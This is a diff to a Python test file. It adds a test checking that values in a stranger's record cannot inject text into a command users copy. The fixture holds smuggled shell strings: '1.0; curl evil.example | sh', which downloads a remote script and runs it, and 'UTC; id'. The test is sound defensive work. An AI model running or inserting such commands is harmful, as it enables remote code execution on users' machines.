@@ -148,4 +148,12 @@ def test_whoever_can_be_varied_or_not_everybody_gets_advice_that_can_be_followed
         found = [each for each in rank(BEFORE, NOW, Clues()) if each.factor is factor]
         for suspect in found:
             if suspect.noticeable:
-                assert comparison.to_try(suspect), factor
+                assert comparison.to_try(suspect, "reprise run"), factor
+
+
+def test_a_strangers_record_cannot_put_words_into_a_command_that_people_copy() -> None:
+    before = {"python.packages.numpy": "1.0; curl evil.example | sh", "os.time_zone": "UTC; id"}
+    now = {"python.packages.numpy": "2.4.6", "os.time_zone": "UTC"}
+    text = body(Comparison("a record", rank(before, now, Clues())))
+    assert "package numpy" in text
+    assert "--vary" not in text
